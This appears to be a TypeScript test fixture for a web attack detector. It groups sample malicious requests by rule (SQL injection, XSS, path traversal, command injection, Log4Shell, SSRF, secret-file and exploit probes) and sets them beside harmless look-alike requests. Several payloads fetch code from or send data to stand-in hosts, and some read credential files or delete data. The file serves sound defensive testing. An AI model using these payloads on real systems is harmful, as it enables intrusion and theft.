/**
 * What attackers send, by the rule that is to find it (others may, too), plain and percent-encoded, once and twice; and
 * what ordinary clients send that looks a little like it. Requests are targets; texts are user agents and referrers.
 */
interface Attempt {
  readonly rule: string
  readonly requests?: ReadonlyArray<string>
  readonly texts?: ReadonlyArray<string>
}

export const attempts: ReadonlyArray<Attempt> = [
  {
    rule: "sql-injection",
    requests: [
      "/item?id=1%27%20OR%20%271%27=%271",
      "/item?id=1'+or+'1'='1'--+-",
      "/item?id=1%2527%2520OR%25201%253D1--",
      '/item?id=1")or("1"="1',
      "/item?id=-1+UNION+ALL+SELECT+1,2,concat(user,0x3a,password)+FROM+mysql.user--",
      "/item?id=1/**/uNiOn/**/sElEcT/**/1,2",
      "/?u=a+union+select+password",
      "/?u=a+union+select+password+limit+1",
      "/?u=a%60+union+select+pw+limit+1",
      "/item?id=1%20union(select(1),2)",
      "/item?id=1%20AND%201=1",
      "/item?id=1%20and%20(7=7",
      "/item?id=1;DROP%20TABLE%20users",
      "/item?id=1';WAITFOR%20DELAY%20'0:0:5'--",
      "/item?id=1%20and%20sleep(5)",
      "/item?id=1-SLEEP(3)",
      "/item?id=1%27%7C%7C(select%20pg_sleep(5))%7C%7C%27",
      "/item?id=1+AND+extractvalue(1,concat(0x7e,version()))",
      "/item?q=x'%20FROM%20information_schema.tables",
      "/item?id=1%20INTO%20OUTFILE%20'/tmp/x'",
      "/item?id=1+order+by+10--",
      "/item/%27--",
      "/x?a=admin%27%23",
      "/item?id=(SELECT%20a%20FROM%20b%20WHERE%20c=1)"
    ],
    texts: ["Mozilla/5.0' AND SLEEP(5) AND 'a'='a", "' OR 1=1 --"]
  },
  {
    rule: "cross-site-scripting",
    requests: [
      "/s?q=<script>alert(1)</script>",
      "/s?q=%3Cscript%20src=//evil.example/x.js%3E",
      "/s?q=%253Csvg%252Fonload%253Dalert%25281%2529%253E",
      "/s?q=%22%3E%3Cimg%20src=x%20onerror=prompt(1)%3E",
      "/s?q='%20onmouseover='alert(1)",
      "/s?q=%22/onfocus=x",
      "/r?to=javascript:fetch(1)",
      "/r?to=%6a%61vascript:x",
      "/s?q=%3Ciframe%20srcdoc=a%3E",
      "/s?q=x;document.cookie",
      "/s/%3CScRiPt%3E",
      "/s?q=<body%20onload=a>"
    ],
    texts: ["<script>alert('xss')</script>", '"><img src=x onerror=alert(1)>']
  },
  {
    rule: "path-traversal",
    requests: [
      "/../../../etc/passwd",
      "/a/..%2f..%2fetc%2fpasswd",
      "/a/%2e%2e/%2e%2e/b",
      "/a/%252e%252e%252fetc",
      "/a/..%5c..%5cwindows%5cwin.ini",
      "/d?file=../../x",
      "/d?file=....//....//x",
      "/d?file=/etc/passwd",
      "/d?file=/etc//shadow",
      "/d?file=/proc/self/environ",
      "/d?file=C:%5CWindows%5Csystem.ini",
      "/a/..;/manager",
      "/a/%c0%ae%c0%ae/b",
      "/a/%25c0%25af..%25c0%25af",
      "/a/%uff0e%u002e/x",
      "/a/..",
      "/d\\\\..\\\\..\\\\boot.ini"
    ]
  },
  {
    rule: "file-inclusion",
    requests: [
      "/?page=php://filter/convert.base64-encode/resource=index",
      "/?page=phar://x.phar",
      "/?page=expect://id",
      "/?page=file:///var/log/a",
      "/?page=http://evil.example/shell.txt?",
      "/?page=https%3A%2F%2Fevil.example%2Fa.php",
      "/?page=data:text/plain;base64,PD9waHA=",
      "/?u=gopher://127.0.0.1:6379/_x"
    ]
  },
  {
    rule: "command-injection",
    requests: [
      "/ping?host=1.1.1.1;cat+/etc/hosts",
      "/ping?host=1.1.1.1;cat\t/etc/hosts",
      "/ping?host=1.1.1.1%7Cid",
      "/ping?host=a%26%26whoami",
      "/ping?host=$(wget+http://evil.example/x)",
      "/ping?host=%60id%60",
      "/ping?host=a%0aid",
      "/ping?host=;ls",
      "/ping?host=;/bin/sh+-c+x",
      "/ping?host=a;rm+-rf+/tmp/a",
      "/cgi?x=cmd.exe%20/c%20dir",
      "/x?a=cat$IFS/etc/x",
      "/x?a=curl+-s+http://evil.example",
      "/x?a=powershell%20-enc%20abc",
      "/shell?cd+/tmp;wget+http://192.0.2.1/a.sh;sh+a.sh"
    ],
    texts: ["() { :; }; /bin/bash -c 'id'", "x;wget http://evil.example/x"]
  },
  {
    rule: "code-injection",
    requests: [
      "/x?a=<?php+phpinfo();",
      "/x?a=%3C%3Fphp%20system($_GET%5B0%5D)",
      "/x?a=eval(base64_decode('a'))",
      "/x?a=${@print(md5(31337))}",
      "/index.php?s=/index/\\\\think\\\\app/invokefunction&function=call_user_func_array",
      "/?-d+allow_url_include=1+-d+auto_prepend_file=php://input",
      "/x?class.module.classLoader.resources.context.parent",
      "/x.action?redirect:%25%7B(new+java.lang.ProcessBuilder('id')).start()%7D",
      "/%24%7B%28%23a%3D%40org.apache%29%7D/x"
    ],
    texts: ["<?php echo 1; ?>", "%{(#_memberAccess=x)}"]
  },
  {
    rule: "template-injection",
    requests: [
      "/x?n={{7*7}}",
      "/x?n=%7B%7B7*%277%27%7D%7D",
      "/x?n=${7*7}",
      "/x?n=%23%7B7*7%7D",
      "/x?n={{config}}",
      "/x?n=<%25=7*7%25>"
    ],
    texts: ["{{''.__class__.__mro__}}"]
  },
  {
    rule: "log4shell",
    requests: [
      "/x?a=${jndi:ldap://evil.example/a}",
      "/%24%7Bjndi:dns://evil.example%7D",
      "/x?a=${${lower:j}ndi:ldap://e}",
      "/x?a=$%7B$%7B::-j%7Dndi:rmi://e%7D",
      "/x?a=${env:AWS_SECRET_ACCESS_KEY}"
    ],
    texts: ["${jndi:ldap://evil.example/a}", "${${::-j}${::-n}di:ldap://e}", "${ jndi:dns://e}"]
  },
  {
    rule: "shellshock",
    requests: ["/cgi?a=()%20{%20:;};echo"],
    texts: ["() { :;}; echo vulnerable", "() { ignored; };id"]
  },
  {
    rule: "header-injection",
    requests: [
      "/r?to=/%0d%0aSet-Cookie:a=b",
      "/r?to=a%250d%250aLocation:%20http://e",
      "/r%0aHTTP/1.1",
      "/r?x=%0d%0a%0d%0a<html>"
    ]
  },
  {
    rule: "server-side-request-forgery",
    requests: [
      "/f?url=http://169.254.169.254/latest/meta-data/",
      "/f?url=http%3A%2F%2Flocalhost:8080/",
      "/f?url=http://127.0.0.1/",
      "/f?url=https://10.0.0.1/",
      "/f?url=http://[::1]/",
      "/f?url=http://metadata.google.internal/"
    ]
  },
  {
    rule: "xml-injection",
    requests: ["/x?a=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+'c'>]>", "/x?a=%3C%3Fxml%20version=1%3F%3E"]
  },
  {
    rule: "secret-file",
    requests: [
      "/.env",
      "/app/.env.production",
      "/.git/config",
      "/.git/HEAD",
      "/.svn/entries",
      "/.aws/credentials",
      "/.ssh/id_rsa",
      "/.DS_Store",
      "/.htpasswd",
      "/%2eenv",
      "/.vscode/sftp.json",
      "/wp-config.php.bak",
      "/wp-config.php~",
      "/wp-config.txt",
      "/config.php.old",
      "/config.yml",
      "/secrets.json",
      "/credentials.xml",
      "/appsettings.json",
      "/web.config",
      "/backup.zip",
      "/db.sql.gz",
      "/dump.sql",
      "/www.tar.gz",
      "/id_ed25519",
      "/server-status",
      "/server-status?auto",
      "/phpinfo.php",
      "/info.php",
      "/actuator/env",
      "/actuator",
      "/debug/pprof/",
      "/docker-compose.yml",
      "/private.pem",
      "/terraform.tfstate"
    ]
  },
  {
    rule: "buffer-overflow",
    requests: [
      `/default.ida?${"N".repeat(224)}%u9090%u6858%ucbd3%u7801`,
      `/default.ida?${"X".repeat(224)}=a`,
      // As a server's own escapes are stored.
      `/${"\\x02\\xb1".repeat(400)}`,
      `/search?q=${"A".repeat(2_000)}`
    ]
  },
  {
    rule: "exploit-probe",
    requests: [
      "/scripts/root.exe?/c+dir",
      "/_vti_bin/..%255c../winnt/system32/cmd.exe?/c+dir",
      "/default.ida",
      "/null.htr",
      "/jenkins/script",
      "/scriptText",
      "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
      "/cgi-bin/luci/;stok=/locale",
      "/cgi-bin/.%2e/.%2e/bin/sh",
      "/HNAP1/",
      "/boaform/admin/formLogin",
      "/GponForm/diag_Form?images/",
      "/_ignition/execute-solution",
      "/manager/html",
      "/solr/admin/info/system",
      "/tmui/login.jsp",
      "/remote/fgt_lang?lang=/../../",
      "/shell.php",
      "/wp-content/uploads/wso.php",
      "/blog/wp-includes/wlwmanifest.xml",
      "/nice%20ports%2C/Tri%6Eity.txt%2ebak",
      "/autodiscover/autodiscover.json"
    ]
  },
  { rule: "proxy-probe", requests: ["CONNECT mail.example:25"] },
  {
    rule: "admin-page",
    requests: [
      "/wp-login.php",
      "/wp-admin/",
      "/xmlrpc.php",
      "/phpMyAdmin/",
      "/phpmyadmin-5.1/",
      "/pma/index.php",
      "/admin",
      "/Admin/login",
      "/administrator/index.php",
      "/adminer.php",
      "/adminer-4.8.1.php",
      "/login.jsp",
      "/owa/auth/x",
      "/mysql/",
      "/grafana/login",
      "/user/login"
    ]
  }
]

export const harmless = {
  requests: [
    "/",
    "/index.html",
    "/blog/how-to-select-from-union-and-order-by",
    "/blog/2026/11/select-a-gift-or-two",
    "/blog/tags/mysql",
    "/docs/grafana/",
    "/topics/vpn?page=2",
    "/search?q=select+a+gift+from+the+shop",
    "/search?q=rock+and+roll",
    "/search?q=how+to+sleep+(5+tips)",
    "/shop/union%20select%20wine",
    "/search?q=javascript:+the+good+parts",
    "/search?q=rock%20%27n%27%20roll",
    "/search?q=it's+five+o'clock",
    "/search?q=this+or+that+in+2026",
    "/search?q=%22exact+phrase%22+and+more",
    "/search?q=5+and+10+inch",
    "/search?q=drop+table+lamp",
    "/search?q=c%2B%2B%20(beginner)",
    "/search?q=50%25+off",
    "/search?q=cat+%26+dog",
    "/search?q=cat;dog",
    "/list?cat=5&id=7&sort=price&order=asc&ls=1&sh=2",
    "/list?filter[price][gte]=5&filter%5Bcolor%5D=red",
    "/list?ids=1,2,3;4",
    "/a;jsessionid=0A1B2C?x=1",
    "/r?url=https%3A%2F%2Fwww.example.com%2Fa%2Fb%3Fc%3Dd",
    "/oauth/callback?code=a.b-c_d&state=%7B%22a%22%3A1%7D&scope=openid%20email",
    "/api/v1/items?query=%7B%22name%22%3A%22a%22%2C%22n%22%3A%5B1%2C2%5D%7D",
    "/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
    "/img/logo@2x.png?v=1.2.3",
    "/fonts/a.woff2?#iefix",
    "/assets/app.4f2a91c7.js.map",
    "/files/report...final.pdf",
    "/files/annual-report_2026.xml",
    "/releases/v1..v2",
    "/compare/main...next",
    "/wiki/Union_(set_theory)",
    "/wiki/Alert_(medicine)",
    "/wiki/C:_drive",
    "/wiki/Kernel_(operating_system)",
    "/people/o%27brien",
    "/de/%C3%BCber-uns",
    "/%E6%97%A5%E6%9C%AC%E8%AA%9E",
    "/.well-known/acme-challenge/abc",
    "/.well-known/security.txt",
    "/robots.txt",
    "/sitemap.xml",
    "/feed.xml",
    "/manifest.json",
    "/config.json",
    "/settings.json",
    "/docs/environment",
    "/docs/administration-guide",
    "/union/select-committee",
    "/2024/union/select-committee",
    "/docs/etc/passwd-format",
    "/docs/shell-scripts",
    "/products/database-books",
    "/backups-explained",
    "/archive/2026/11/",
    "/products/item.php?id=17",
    "/login",
    "/auth/login?next=/account/",
    "/account/admins-of-the-year",
    "/calendar?from=2026-11-05T00:00:00%2B01:00",
    "/map?center=52.5,13.4&zoom=12",
    "/track?utm_source=a&utm_content=%7Bcreative%7D&gclid=EAIaIQ-_x",
    "/track?e=pv&page=https%3A%2F%2Fwww.example.com%2F&refr=https%3A%2F%2Fwww.google.com%2F",
    "/img/{{item.src}}",
    "/a?time=12:30&date=5/11",
    "/a?x=1|2|3",
    "/a?x=$5.00",
    "/a?x=(1)",
    "/a?b64=PD94bWw%2BYQ%3D%3D",
    "/print?doc=42#page=2",
    "/blog/tags/script",
    "/docs/script/",
    "/setup.exe?build=12",
    "/\\xcf\\xf0\\xe8\\xe2\\xe5\\xf2/\\xec\\xe8\\xf0",
    `/token/${"0123456789abcdef".repeat(20)}`,
    "*"
  ],
  texts: [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/27.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_5; fr-fr; id) Gecko/1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (X11; Linux x86_64; set; dir) Perl/5",
    "Mozilla/5.0 (Windows; U; Windows NT 6.1; id; rv:1.9.2.3) Gecko/20100401 Firefox/3.6.3",
    "Mozilla/5.0 (X11; U; Linux i686; nc; sh; ls) AppleWebKit/531.2+",
    "curl/8.14.1",
    "python-requests/2.32.5",
    "Wget/1.25.0",
    "PHP/8.4",
    "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.18",
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727)",
    "Mozilla/5.0 (compatible;PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 41 subscribers; like FeedFetcher-Google)",
    "facebookexternalhit/1.1;line-poker/1.0",
    "https://www.google.com/search?q=select+union+or+more&sca_esv=1",
    "https://www.example.com/search?q=%22a%22+and+%22b%22",
    "android-app://com.google.android.gm/",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.example.com%2F&h=AT0"
  ]
}
